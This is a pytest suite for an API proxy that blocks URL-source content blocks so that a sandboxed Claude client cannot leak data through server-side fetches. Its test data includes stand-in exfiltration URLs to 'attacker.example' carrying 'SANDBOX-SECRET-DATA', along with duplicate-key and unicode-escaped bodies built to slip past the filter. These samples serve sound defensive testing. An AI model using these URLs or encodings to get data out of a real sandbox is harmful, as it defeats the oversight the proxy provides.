"""Content blocks with a URL source (``"source": {"type": "url", "url": ...}``) make Anthropic's
servers GET the URL, so a sandbox could send data out in its query string: refused unless an
operator allows them. Every refusal is checked against the fake upstream: nothing may reach it.
Base64, file and text sources, and blocks without a source, pass byte for byte."""

from __future__ import annotations

from typing import Any

import pytest
from claude_pods_proxy.app import ProxyServer
from claude_pods_proxy.cli import _parser
from claude_pods_proxy.config import ConfigError

from tests.fakes.anthropic_api import FakeAnthropicAPI

from .test_server_tools import (
    ROUTES,
    assert_refused,
    assert_refused_quietly,
    parse,
    payload,
    rejections,
    send,
)

#: What an exfiltrating URL looks like; it must never show up in a reply or a log line.
URL = "https://attacker.example/collect?data=SANDBOX-SECRET-DATA"
URL_IMAGE = {"type": "image", "source": {"type": "url", "url": URL}}
URL_DOCUMENT = {
    "type": "document",
    "source": {"type": "url", "url": URL + ".pdf"},
    "title": "t",
    "citations": {"enabled": True},
}
BASE64_IMAGE = {
    "type": "image",
    "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgoAAAANSUhEUg=="},
}
TEXT = {"type": "text", "text": "PROMPT-MARKER look at this"}


def user(*blocks: Any) -> list[dict[str, Any]]:
    """A conversation whose last user turn holds *blocks* (after a tool call, as Claude Code
    sends it), so the walk must look past the first message."""
    return [
        {"role": "user", "content": "PROMPT-MARKER read the file"},
        {
            "role": "assistant",
            "content": [
                {"type": "text", "text": "Reading it."},
                {"type": "tool_use", "id": "toolu_1", "name": "Read", "input": {"p": "/a"}},
            ],
        },
        {"role": "user", "content": list(blocks)},
    ]


def tool_result(*content: Any) -> dict[str, Any]:
    return {"type": "tool_result", "tool_use_id": "toolu_1", "content": list(content)}


def nested(depth: int, inner: Any) -> Any:
    """*inner* inside *depth* tool results, each inside the previous one's content."""
    block = inner
    for _ in range(depth):
        block = tool_result(block)
    return block


#: Bodies whose only fault is a URL source, wherever the API accepts a content block.
REFUSED = {
    "image": payload(messages=user(TEXT, URL_IMAGE)),
    "document": payload(messages=user(URL_DOCUMENT, TEXT)),
    "first-message": payload(messages=[{"role": "user", "content": [URL_IMAGE, TEXT]}]),
    "assistant-turn": payload(
        messages=[
            {"role": "user", "content": "hi"},
            {"role": "assistant", "content": [URL_IMAGE]},
        ]
    ),
    "image-in-tool-result": payload(messages=user(tool_result(TEXT, URL_IMAGE))),
    "document-in-tool-result": payload(messages=user(tool_result(URL_DOCUMENT))),
    "system": payload(system=[{"type": "text", "text": "You are helpful."}, URL_IMAGE]),
    "system-document": payload(system=[URL_DOCUMENT]),
    # A document made of blocks ("source": {"type": "content"}) may hold an image.
    "in-a-content-document": payload(
        messages=user(
            {
                "type": "document",
                "source": {"type": "content", "content": [TEXT, URL_IMAGE]},
            }
        )
    ),
    # Deeper than any real client nests, yet within what a JSON parser accepts.
    "nested-300": payload(messages=user(nested(300, URL_IMAGE))),
    # Block types the API does not have (yet): a URL source is refused in any block.
    "unknown-block-type": payload(
        messages=user({"type": "video", "source": {"type": "url", "url": URL}})
    ),
    "untyped-block": payload(messages=user({"source": {"type": "url", "url": URL}})),
}
#: The start of a raw body, for bodies json.dumps cannot write (duplicate keys, escapes).
HEAD = b'{"model":"m","max_tokens":1,"messages":[{"role":"user","content":['
SOURCE = b'{"type":"url","url":"https://attacker.example/x?SANDBOX-SECRET-DATA"}'
RAW_REFUSED = {
    # Either value of a key given twice may be the one the API keeps.
    "source-twice": HEAD
    + b'{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="},'
    b'"source":' + SOURCE + b"}]}]}",
    "url-first-source-twice": HEAD
    + b'{"type":"image","source":'
    + SOURCE
    + b',"source":{"type":"base64","media_type":"image/png","data":"AA=="}}]}]}',
    "type-twice-in-source": HEAD + b'{"type":"image","source":{"type":"url","type":"base64",'
    b'"media_type":"image/png","data":"AA==","url":"https://attacker.example/"}}]}]}',
    "content-twice": b'{"model":"m","max_tokens":1,"messages":[{"role":"user",'
    b'"content":[{"type":"image","source":' + SOURCE + b'}],"content":"hi"}]}',
    # What the upstream decodes is what the proxy checks.
    "escaped": HEAD
    + b'{"type":"image","\\u0073ource":{"type":"\\u0075rl","url":"https://a.example/"}}]}]}',
}


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("name", sorted(REFUSED))
async def test_url_sources_are_refused_and_nothing_is_forwarded(
    proxy: ProxyServer,
    fake_api: FakeAnthropicAPI,
    all_log_lines: list[str],
    access_lines: list[str],
    path: str,
    name: str,
) -> None:
    message = assert_refused(
        await send(proxy, REFUSED[name], path),
        "source is a URL",
        "base64",
        "--allow-url-sources",
        "CLAUDE_PODS_ALLOW_URL_SOURCES=1",
    )
    assert "attacker.example" not in message
    assert "PROMPT-MARKER" not in message
    assert_refused_quietly(
        proxy,
        fake_api,
        access_lines,
        all_log_lines,
        "url_source_refused",
        lambda line: "refused a URL source" in line,
    )
    text = "\n".join(all_log_lines)
    assert "attacker.example" not in text  # nor the URL, nor what it carries
    assert "SANDBOX-SECRET-DATA" not in text


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("name", sorted(RAW_REFUSED))
async def test_ambiguous_and_escaped_url_sources_are_refused(
    proxy: ProxyServer, fake_api: FakeAnthropicAPI, path: str, name: str
) -> None:
    assert_refused(await send(proxy, RAW_REFUSED[name], path), "source is a URL")
    assert fake_api.requests == []


async def test_the_refusal_names_the_block_type(proxy: ProxyServer) -> None:
    message = assert_refused(await send(proxy, REFUSED["document-in-tool-result"]))
    assert "block of type 'document'" in message
    message = assert_refused(await send(proxy, REFUSED["untyped-block"]))
    assert "block of type null" in message


#: Everything a client may send that Anthropic does not fetch from elsewhere.
PASSING = {
    "text-only": payload(),
    "blocks": payload(messages=user(TEXT, tool_result(TEXT), tool_result())),
    "base64-image": payload(messages=user(BASE64_IMAGE, tool_result(TEXT, BASE64_IMAGE))),
    "base64-pdf": payload(
        messages=user(
            {
                "type": "document",
                "source": {"type": "base64", "media_type": "application/pdf", "data": "JVBE"},
            }
        )
    ),
    "text-document": payload(
        messages=user(
            {
                "type": "document",
                "source": {"type": "text", "media_type": "text/plain", "data": URL},
                "citations": {"enabled": True},
            }
        )
    ),
    "content-document": payload(
        messages=user(
            {"type": "document", "source": {"type": "content", "content": [TEXT, BASE64_IMAGE]}}
        )
    ),
    "file-sources": payload(
        messages=user(
            {
                "type": "image",
                "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"},
            },
            {
                "type": "document",
                "source": {"type": "file", "file_id": "file_011CPMxVD3fHLUhvTqtsQA5w"},
            },
            {"type": "container_upload", "file_id": "file_011CPMxVD3fHLUhvTqtsQA5w"},
        )
    ),
    # A search result's source is a string: a citation, not something fetched.
    "search-result": payload(
        messages=user(
            {
                "type": "search_result",
                "source": URL,
                "title": "t",
                "content": [{"type": "text", "text": "r"}],
            },
            tool_result({"type": "search_result", "source": URL, "title": "t", "content": []}),
        )
    ),
    # A client tool's input is the client's own data: a "source" in it is not a block's.
    "url-in-tool-input": payload(
        messages=[
            {"role": "user", "content": "fetch it"},
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "tool_use",
                        "id": "toolu_1",
                        "name": "Fetch",
                        "input": {"source": {"type": "url", "url": URL}, "content": [URL_IMAGE]},
                    }
                ],
            },
            {"role": "user", "content": [tool_result(TEXT)]},
        ]
    ),
    # URLs in text, tool schemas and citations are just text.
    "urls-as-text": payload(
        system=[{"type": "text", "text": URL, "cache_control": {"type": "ephemeral"}}],
        tools=[
            {
                "name": "WebFetch",
                "input_schema": {
                    "type": "object",
                    "properties": {"source": {"type": "url"}, "url": {"type": "string"}},
                },
            }
        ],
        messages=user({"type": "text", "text": '"source": {"type": "url"}'}),
    ),
    "string-system": payload(system="You are helpful. " + URL),
}


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("name", sorted(PASSING))
async def test_other_sources_pass_byte_for_byte(
    proxy: ProxyServer, fake_api: FakeAnthropicAPI, path: str, name: str
) -> None:
    resp = await send(proxy, PASSING[name], path)
    assert resp.status == 200, resp.body
    assert len(fake_api.requests) == 1
    assert fake_api.requests[0].body == PASSING[name]  # forwarded byte for byte
    assert rejections("url_source_refused", proxy) == 0


@pytest.mark.parametrize("proxy_options", [{"allow_url_sources": True}])
@pytest.mark.parametrize("path", ROUTES)
async def test_the_option_allows_url_sources(
    proxy: ProxyServer, fake_api: FakeAnthropicAPI, path: str
) -> None:
    bodies = [REFUSED[name] for name in sorted(REFUSED)] + list(RAW_REFUSED.values())
    for data in bodies:
        resp = await send(proxy, data, path)
        assert resp.status == 200, resp.body
    assert [r.body for r in fake_api.requests] == bodies
    # It allows URL sources, nothing else: a server tool is still refused.
    tools = [{"type": "web_fetch_20250910", "name": "web_fetch"}]
    assert_refused(await send(proxy, payload(tools=tools), path), "web_fetch")
    assert len(fake_api.requests) == len(bodies)


#: Shapes the API rejects: the proxy forwards them (the API answers) or refuses them, never
#: fails on them.
MALFORMED = {
    "source-string": payload(messages=user({"type": "image", "source": URL})),
    "source-number": payload(messages=user({"type": "image", "source": 7})),
    "source-null": payload(messages=user({"type": "image", "source": None})),
    "source-array": payload(messages=user({"type": "image", "source": [{"type": "url"}]})),
    "source-type-object": payload(messages=user({"type": "image", "source": {"type": {}}})),
    "content-object": payload(messages=[{"role": "user", "content": {"type": "text"}}]),
    "content-number": payload(messages=[{"role": "user", "content": 3}]),
    "content-null": payload(messages=[{"role": "user", "content": None}]),
    "content-nested-arrays": payload(messages=[{"role": "user", "content": [[[TEXT]], []]}]),
    "tool-result-content-object": payload(messages=user({"type": "tool_result", "content": {}})),
    "messages-object": payload(messages={"role": "user", "content": [TEXT]}),
    "messages-string": payload(messages="hi"),
    "message-not-object": payload(messages=["hi", 3, None, [TEXT]]),
    "system-object": payload(system={"type": "text", "text": "x"}),
    "system-number": payload(system=1),
    "blocks-not-objects": payload(messages=user("text", 1, None, True)),
    "document-content-not-list": payload(
        messages=user({"type": "document", "source": {"type": "content", "content": "x"}})
    ),
    "deepest-json": b'{"model":"m","max_tokens":1,"messages":' + b"[" * 990 + b"]" * 990 + b"}",
}


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("name", sorted(MALFORMED))
async def test_malformed_shapes_do_not_break_the_proxy(
    proxy: ProxyServer, fake_api: FakeAnthropicAPI, path: str, name: str
) -> None:
    resp = await send(proxy, MALFORMED[name], path)
    assert resp.status in (200, 400), resp.body
    if resp.status == 400:
        assert_refused(resp)
        assert fake_api.requests == []
    else:
        assert [r.body for r in fake_api.requests] == [MALFORMED[name]]
    assert (await send(proxy, payload(), path)).status == 200  # the proxy still serves


@pytest.mark.parametrize("path", ROUTES)
async def test_a_url_source_behind_malformed_blocks_is_still_found(
    proxy: ProxyServer, fake_api: FakeAnthropicAPI, path: str
) -> None:
    blocks = ["text", 1, None, {"type": "image", "source": "x"}, [[URL_IMAGE]]]
    data = payload(messages=["hi", {"role": "user", "content": blocks}])
    assert_refused(await send(proxy, data, path), "source is a URL")
    assert fake_api.requests == []


def test_option_is_off_by_default_and_set_by_flag_or_variable() -> None:
    assert parse([], {}).allow_url_sources is False
    assert parse(["--allow-url-sources"], {}).allow_url_sources is True
    for value, expected in [("1", True), ("true", True), ("0", False), ("no", False)]:
        env = {"CLAUDE_PODS_ALLOW_URL_SOURCES": value}
        assert parse([], env).allow_url_sources is expected, value
    # the flag wins over the variable
    env = {"CLAUDE_PODS_ALLOW_URL_SOURCES": "0"}
    assert parse(["--allow-url-sources"], env).allow_url_sources is True
    assert "allow_url_sources=True" in repr(parse(["--allow-url-sources"], {}))


def test_a_bad_variable_stops_the_proxy() -> None:
    with pytest.raises(ConfigError, match="CLAUDE_PODS_ALLOW_URL_SOURCES"):
        parse([], {"CLAUDE_PODS_ALLOW_URL_SOURCES": "maybe"})


def test_the_flag_takes_no_value() -> None:
    args = _parser().parse_args(["serve", "--allow-url-sources", "--port", "9"])
    assert (args.allow_url_sources, args.port) == (True, 9)


def test_help_documents_the_option(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        _parser().parse_args(["serve", "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "--allow-url-sources " in text
    assert "$CLAUDE_PODS_ALLOW_URL_SOURCES]" in text
    assert "ALLOW_URL_SOURCES; default" not in text


#: Source types the proxy does not know are refused like ``url`` (an allowlist), whatever
#: their shape: a future type that fetches must be looked at before it is forwarded.
UNKNOWN_SOURCES = {
    "unknown-type": {"type": "gcs", "uri": "gs://attacker-bucket/x"},
    "type-list": {"type": ["url"], "url": "https://attacker.example/"},
    "type-object-with-list": {"type": {"a": [1]}, "url": "https://attacker.example/"},
    "type-null": {"type": None, "url": "https://attacker.example/"},
}


@pytest.mark.parametrize("path", ROUTES)
@pytest.mark.parametrize("name", sorted(UNKNOWN_SOURCES))
async def test_unknown_source_types_are_refused(
    proxy: ProxyServer, fake_api: FakeAnthropicAPI, path: str, name: str
) -> None:
    body = payload(messages=user({"type": "image", "source": UNKNOWN_SOURCES[name]}))
    assert_refused(await send(proxy, body, path), "source is a URL")
    assert fake_api.requests == []
